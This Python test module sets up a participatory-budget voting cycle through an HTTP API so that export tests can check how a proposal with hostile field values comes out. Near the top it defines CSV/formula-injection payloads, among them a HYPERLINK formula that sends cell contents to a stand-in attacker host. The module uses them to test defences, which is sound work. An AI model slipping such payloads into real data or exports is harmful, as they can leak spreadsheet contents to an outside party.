"""A cycle taken over HTTP to published results, with a proposal whose title, description and
category a spreadsheet would run as formulas, and an amount with öre: what the export tests
read back."""

from __future__ import annotations

from tests.e2e.api_client import API, IDEAS, Api, Cycle, build_cycle, review

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'
HOSTILE_DESCRIPTION = "+SUM(1,2) @cmd"
HOSTILE_CATEGORY = "-2+3"
HOSTILE_PROPOSER = "proposer of the hostile idea"
# (voter, selections by idea key) in norr; approval, at most two each
VOTES = (("v1", ("utegym", "hostile")), ("v2", ("utegym", "belysning")),
         ("v3", ("hostile", "belysning")), ("v4", ("utegym", "angar")),
         ("v5", ("hostile",)))


def hostile_idea(api: Api, cycle: Cycle) -> str:
    """Submit (in ideas) the hostile proposal, estimated with öre."""
    proposal = api.resident(
        "POST", f"{API}/cycles/{cycle.id}/proposals", 201, subject=HOSTILE_PROPOSER,
        json={"area": "norr", "title": HOSTILE_TITLE, "description": HOSTILE_DESCRIPTION,
              "estimated_cost": "1234.56", "category": HOSTILE_CATEGORY,
              "place": {"name": "@Torget", "lat": "57.6531", "lon": "14.6968"}})
    cycle.proposals["hostile"] = proposal["id"]
    return str(proposal["id"])


def published_cycle(api: Api, name: str = "Medborgarbudget Testby 2027") -> Cycle:
    """A cycle in results: every idea reviewed (the hostile one feasible at 1 234,56 kr),
    VOTES cast in norr, the tally published."""
    cycle = build_cycle(api, "ideas", name)
    hostile_idea(api, cycle)
    voting_open(api, cycle)
    for voter, keys in VOTES:
        api.resident("POST", f"{API}/cycles/{cycle.id}/ballots", 201, subject=voter,
                     json={"area": "norr", "selections": [cycle.proposals[k] for k in keys]})
    api.fire(cycle.id, "close_voting")
    api.fire(cycle.id, "publish_results")
    cycle.phase = "results"
    return cycle


def voting_open(api: Api, cycle: Cycle) -> None:
    """From ideas to voting: every idea reviewed as build_cycle does, the hostile one too."""
    api.fire(cycle.id, "close_ideas")
    for key, _, _, _, official in IDEAS:
        review(api, cycle.proposals[key], official)
    api.reviewer("POST", f"{API}/proposals/{cycle.proposals['hostile']}/review",
                 json={"feasible": True, "official_cost": "1234.56"})
    api.fire(cycle.id, "open_voting")
    cycle.phase = "voting"
